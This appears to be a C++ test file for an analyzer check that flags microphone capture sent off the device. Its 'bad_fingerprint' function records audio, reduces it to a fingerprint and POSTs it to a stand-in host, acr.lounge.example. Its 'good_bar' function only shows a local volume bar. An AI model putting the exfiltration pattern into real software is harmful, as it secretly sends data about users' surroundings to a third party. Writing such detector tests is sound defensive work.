/* C++: what a microphone hears is reduced by a template, and posted; or shown as a bar. */
#include <alsa/asoundlib.h>
#include <cstdint>
#include <cstdio>
#include <curl/curl.h>
#include <memory>
#include <string>
#include <vector>

namespace {

template <typename Sample> class Window {
  public:
    explicit Window(std::size_t size) : samples_(size) {}
    bool fill(snd_pcm_t *input) {
        return snd_pcm_readi(input, samples_.data(), samples_.size()) > 0;
    }
    std::string print() const {
        std::string text;
        for (std::size_t i = 0; i + 1 < samples_.size(); i += 2)
            text.push_back(static_cast<char>('a' + ((samples_[i] >> 12) & 15)));
        return text;
    }
    Sample loudest() const {
        Sample most = 0;
        for (Sample sample : samples_)
            most = sample > most ? sample : most;
        return most;
    }

  private:
    std::vector<Sample> samples_;
};

struct Cleanup {
    void operator()(CURL *curl) const {
        curl_easy_cleanup(curl);
    }
};

} // namespace

void bad_fingerprint(snd_pcm_t *input) {
    Window<std::int16_t> window(4096);
    if (!window.fill(input))
        return;
    std::string print = window.print();
    std::unique_ptr<CURL, Cleanup> curl(curl_easy_init());
    curl_easy_setopt(curl.get(), CURLOPT_URL, "https://acr.lounge.example/match");
    curl_easy_setopt(curl.get(), CURLOPT_POSTFIELDS, print.c_str());
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/capture]}}
    curl_easy_perform(curl.get());
}

void good_bar(snd_pcm_t *input) {
    Window<std::int16_t> window(512);
    if (window.fill(input))
        std::printf("%*d\r", window.loudest() / 512, 0);
}
